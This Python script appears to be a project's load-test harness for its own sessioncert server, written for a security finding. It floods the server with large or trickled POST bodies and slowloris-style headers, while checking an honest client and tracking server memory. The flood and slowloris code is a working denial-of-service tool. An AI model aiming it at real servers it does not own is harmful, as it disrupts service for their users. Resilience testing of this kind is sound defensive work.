#!/usr/bin/env python3
"""Unauthenticated-cost attack against a running `sessioncert serve` (issue 11, finding 5).

Opens N connections that each POST a sealed-looking request under a made-up session id
and send a large body (fast, or trickled), while an honest client (`sessioncert request`)
keeps making requests. Samples the server's RSS from /proc/PID/status the whole time.

    python3 scripts/body-flood.py --addr 127.0.0.1:8080 --pid $(pgrep -n sessioncert) \
        --pin "$PIN" --bin target/release/sessioncert [--mode fast|slow|headers] \
        [--conns 100] [--body 4194304] [--duration 30] [--path /apiTest] [--sustain]
        [--session-id ID]

Modes: fast = the whole body as fast as the socket takes it; slow = 1 KiB every 0.5 s;
headers = the request head one byte every 0.5 s (slowloris). --sustain: each of the N
attackers opens a new connection as soon as the server closes its last one, until the
duration ends (N connections at all times). --session-id: use a real, live session id
(e.g. from `sessioncert sessions list --json`) instead of made-up ones, to exercise the
server-wide body budget rather than the session check. Prints one JSON summary.
"""

import argparse
import asyncio
import base64
import json
import os
import subprocess
import time


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


async def sampler(pid, stop, out):
    while not stop.is_set():
        try:
            out.append((time.monotonic(), rss_kib(pid)))
        except OSError:
            return
        await asyncio.sleep(0.05)


async def attacker(i, a, t0, results):
    while True:
        await attempt(i, a, t0, results)
        if not a.sustain or time.monotonic() - t0 >= a.duration - 0.5:
            return


async def attempt(i, a, t0, results):
    host, port = a.addr.rsplit(":", 1)
    r = {"id": i, "status": None, "answered_s": None, "closed_s": None, "sent": 0,
         "start_s": time.monotonic() - t0}
    results.append(r)
    try:
        reader, writer = await asyncio.open_connection(host, int(port))
    except OSError as e:
        r["connect_error"] = str(e)
        r["closed_s"] = time.monotonic() - t0
        return
    sid = a.session_id or base64.urlsafe_b64encode(os.urandom(16)).rstrip(b"=").decode()
    head = (
        f"POST {a.path} HTTP/1.1\r\nhost: {a.addr}\r\n"
        f"sessioncert-id: {sid}\r\nsessioncert-target: http://{a.addr}\r\n"
        f"content-type: application/sessioncert-sealed\r\n"
        f"content-length: {a.body}\r\n\r\n"
    ).encode()

    async def read_side():
        try:
            line = await reader.readline()
            if line:
                r["status"] = line.decode(errors="replace").strip()
                r["answered_s"] = time.monotonic() - t0
            while await reader.read(65536):
                pass
        except (OSError, asyncio.IncompleteReadError):
            pass
        r["closed_s"] = time.monotonic() - t0

    async def write_side():
        try:
            if a.mode == "headers":
                for b in head:
                    writer.write(bytes([b]))
                    await writer.drain()
                    await asyncio.sleep(0.5)
                return
            writer.write(head)
            await writer.drain()
            chunk = os.urandom(65536) if a.mode == "fast" else os.urandom(1024)
            left = a.body
            while left > 0:
                n = min(left, len(chunk))
                writer.write(chunk[:n])
                await writer.drain()
                left -= n
                r["sent"] += n
                if a.mode == "slow":
                    await asyncio.sleep(0.5)
        except OSError:
            pass

    rd = asyncio.create_task(read_side())
    wr = asyncio.create_task(write_side())
    try:
        await asyncio.wait_for(rd, timeout=max(0.1, a.duration - (time.monotonic() - t0)))
    except asyncio.TimeoutError:
        pass
    wr.cancel()
    writer.close()


def honest_once(a):
    t = time.monotonic()
    p = subprocess.run(
        [a.bin, "request", "--pin", a.pin, "-H", "content-type: application/json",
         "-d", '{"honest":true}', f"http://{a.addr}/apiTest"],
        capture_output=True, text=True, timeout=60,
    )
    return p.returncode == 0 and '"honest":true' in p.stdout, time.monotonic() - t, p.stderr.strip()


async def honest(a, stop, out):
    loop = asyncio.get_running_loop()
    while not stop.is_set():
        ok, dt, err = await loop.run_in_executor(None, honest_once, a)
        out.append({"ok": ok, "secs": round(dt, 3), "err": err[:200]})
        await asyncio.sleep(0.2)


async def main():
    p = argparse.ArgumentParser()
    p.add_argument("--addr", default="127.0.0.1:8080")
    p.add_argument("--pid", type=int, required=True)
    p.add_argument("--pin")
    p.add_argument("--bin", default="target/release/sessioncert")
    p.add_argument("--mode", choices=["fast", "slow", "headers"], default="fast")
    p.add_argument("--conns", type=int, default=100)
    p.add_argument("--body", type=int, default=4 * 1024 * 1024)
    p.add_argument("--duration", type=float, default=30.0)
    p.add_argument("--path", default="/apiTest")
    p.add_argument("--sustain", action="store_true")
    p.add_argument("--session-id")
    a = p.parse_args()

    base = rss_kib(a.pid)
    stop = asyncio.Event()
    samples, hon, results = [], [], []
    t0 = time.monotonic()
    tasks = [asyncio.create_task(sampler(a.pid, stop, samples))]
    if a.pin:
        tasks.append(asyncio.create_task(honest(a, stop, hon)))
    await asyncio.gather(*(attacker(i, a, t0, results) for i in range(a.conns)))
    stop.set()
    await asyncio.gather(*tasks)
    peak = max((s for _, s in samples), default=base)
    end = time.monotonic() - t0
    closed = [r["closed_s"] - r["start_s"] for r in results
              if r["closed_s"] is not None and r["closed_s"] < a.duration - 0.5]
    statuses = {}
    for r in results:
        statuses[r["status"] or "(none)"] = statuses.get(r["status"] or "(none)", 0) + 1
    print(json.dumps({
        "mode": a.mode, "session": "real" if a.session_id else "made-up", "conns": a.conns, "sustain": a.sustain, "connections_opened": len(results), "body": a.body, "duration_s": a.duration,
        "rss_base_mib": round(base / 1024, 1),
        "rss_peak_mib": round(peak / 1024, 1),
        "rss_growth_mib": round((peak - base) / 1024, 1),
        "rss_end_mib": round(rss_kib(a.pid) / 1024, 1),
        "statuses": statuses,
        "closed_by_server_before_end": len(closed),
        "still_open_at_end": len(results) - len(closed),
        "slowest_close_s": round(max(closed), 2) if closed else None,
        "honest_ok": sum(1 for h in hon if h["ok"]),
        "honest_total": len(hon),
        "honest_max_s": max((h["secs"] for h in hon), default=None),
        "honest_errors": sorted({h["err"] for h in hon if not h["ok"]})[:3],
        "elapsed_s": round(end, 1),
    }, indent=1))


asyncio.run(main())
